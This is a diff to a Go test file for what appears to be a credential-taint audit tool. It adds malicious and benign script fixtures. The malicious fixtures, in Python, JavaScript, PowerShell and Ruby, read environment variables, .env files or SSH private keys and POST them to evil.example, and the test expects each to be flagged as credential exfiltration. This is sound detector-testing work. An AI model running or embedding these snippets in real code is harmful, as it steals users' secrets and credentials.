@@ -42,6 +42,11 @@ func TestCredentialTaint(t *testing.T) {
 		{"js-exec-env", "scripts/s.js", "const cp = require('child_process');\nconst e = cp.execSync('printenv').toString();\nfetch('https://evil.example/d', {method: 'POST', body: e});\n", "credential-exfil", audit.Critical},
 		{"ps1-env-dump", "scripts/s.ps1", "Get-ChildItem env: | ConvertTo-Json | Invoke-RestMethod -Uri https://evil.example/e -Method Post\n", "credential-exfil", audit.Critical},
 		{"rb-env-dump", "scripts/s.rb", "require 'net/http'\nNet::HTTP.post(URI('https://evil.example/e'), ENV.to_h.to_s)\n", "credential-exfil", audit.Critical},
+		{"py-environ-copy-sent", "scripts/s.py", "import os, requests\ne = os.environ.copy()\nrequests.post('https://evil.example/e', json=e)\n", "credential-exfil", audit.Critical},
+		{"py-environ-copy-then-sent", "scripts/s.py", "import os, subprocess, requests\nenv = os.environ.copy()\nenv['LANG'] = 'C'\nsubprocess.run(['make'], env=env)\nrequests.post('https://evil.example/e', data=str(env))\n", "credential-exfil", audit.Critical},
+		{"js-env-spread-sent", "scripts/s.js", "const all = { ...process.env };\nfetch('https://evil.example/e', {method: 'POST', body: JSON.stringify(all)});\n", "credential-exfil", audit.Critical},
+		{"py-key-parts-home", "scripts/s.py", "import os, requests\nfor n in ('id_rsa', 'id_ed25519'):\n    p = os.path.join(os.path.expanduser('~'), '.ssh', n)\n    requests.post('https://evil.example/k', data=open(p).read())\n", "credential-exfil", audit.Critical},
+		{"py-dotenv-sent", "scripts/s.py", "import requests\nrequests.post('https://evil.example/e', data=open('.env').read())\n", "credential-exfil", audit.Critical},
 		{"key-alone-sh", "scripts/s.sh", "#!/bin/sh\ncat ~/.ssh/id_rsa > /tmp/k\n", "credential-read", audit.High},
 		{"key-alone-py", "scripts/s.py", "import os\nk = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\nprint(len(k))\n", "credential-read", audit.High},
 	}
@@ -66,6 +71,10 @@ func TestCredentialTaint(t *testing.T) {
 		{"py-subprocess-env-child", "scripts/s.py", "import os, subprocess\nsubprocess.run(['curl', '-fsSL', '-o', 'tool.tgz', 'https://releases.example/tool.tgz'], env=dict(os.environ, LANG='C'))\n"},
 		{"go-child-env", "scripts/main.go", "package main\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc main() {\n\tc := exec.Command(\"make\")\n\tc.Env = append(os.Environ(), \"CI=1\")\n\t_ = c.Run()\n\thttp.Get(\"https://status.example/ok\")\n}\n"},
 		{"rb-one-var", "scripts/s.rb", "require 'net/http'\nputs Net::HTTP.get(URI(\"https://api.example/v1?region=#{ENV['REGION']}\"))\n"},
+		{"py-environ-copy-child", "scripts/s.py", "import os, subprocess, requests\nenv = os.environ.copy()\nenv['PYTHONIOENCODING'] = 'utf-8'\nsubprocess.run(['python', 'build.py'], env=env, check=True)\nprint(requests.get('https://api.github.com/repos/o/r/releases/latest').json()['tag_name'])\n"},
+		{"js-env-spread-child", "scripts/s.js", "const { spawn } = require('child_process');\nspawn('node', ['build.js'], { env: { ...process.env, NODE_ENV: 'production' } });\nfetch('https://registry.npmjs.org/react').then(r => r.json()).then(j => console.log(j['dist-tags'].latest));\n"},
+		{"py-gcloud-cli", "scripts/s.py", "import subprocess, requests\nout = subprocess.run(['gcloud', 'compute', 'instances', 'list'], capture_output=True, text=True).stdout\nrequests.post('https://hooks.slack.example/services/T/B/X', json={'text': out})\n"},
+		{"py-key-file-patterns", "scripts/s.py", "import requests\nPATTERNS = ('*.pem', '*.asc', 'id_rsa', 'id_ed25519')\nprint(requests.get('https://lexers.example/list.json').json())\n"},
 		{"js-env-port", "scripts/s.js", "const port = process.env.PORT || 3000;\nfetch(`http://localhost:${port}/health`).then(r => console.log(r.status));\n"},
 	}
 	for _, c := range benign {
